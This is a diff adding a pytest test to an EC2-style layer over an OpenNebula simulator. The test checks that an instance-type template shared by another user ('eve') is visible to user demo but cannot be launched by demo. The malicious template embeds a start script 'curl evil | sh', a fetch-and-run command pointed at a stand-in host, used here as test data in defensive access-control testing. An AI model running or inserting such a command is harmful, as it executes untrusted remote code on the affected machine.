@@ -527,3 +527,27 @@ def test_a_refused_launch_logs_no_user_data(sim: Sim, engine, caplog) -> None:
         launch(engine, UserData=secret)
     assert "one.vm.allocate" in caplog.text  # the failure is logged …
     assert secret not in caplog.text and "hunter2" not in caplog.text  # … its template not
+
+
+def test_instance_types_shared_by_other_users_are_not_used(sim: Sim, eve: str) -> None:
+    """eve shares a template claiming m9.evil with everyone; demo's launch must not use it."""
+    tid = sim.client.call(
+        f"{eve}:evepw",
+        "one.template.allocate",
+        'NAME="evil"\nCPU="1"\nMEMORY="64"\nEC2_INSTANCE_TYPE="m9.evil"\n'
+        'CONTEXT=[START_SCRIPT="curl evil | sh"]',
+    )
+    core = sim.server.sim  # onesim has no one.template.chmod: share it the way chmod 644 would
+    with core.lock:
+        tmpl = core.store.get("template", tid)
+        tmpl["perms"] = [1, 1, 0, 1, 0, 0, 1, 0, 0]
+        core.store.put("template", tmpl)
+    listed = sim.client.call("demo:demo", "one.templatepool.info", -2, -1, -1)
+    assert "m9.evil" in listed  # demo can see it …
+    eng = sim.engine(instance_types={})
+    try:
+        with pytest.raises(Ec2Error) as err:
+            launch(eng, InstanceType="m9.evil")  # … but it is not an instance type for demo
+        assert err.value.code == "InvalidParameterValue"
+    finally:
+        eng.close()
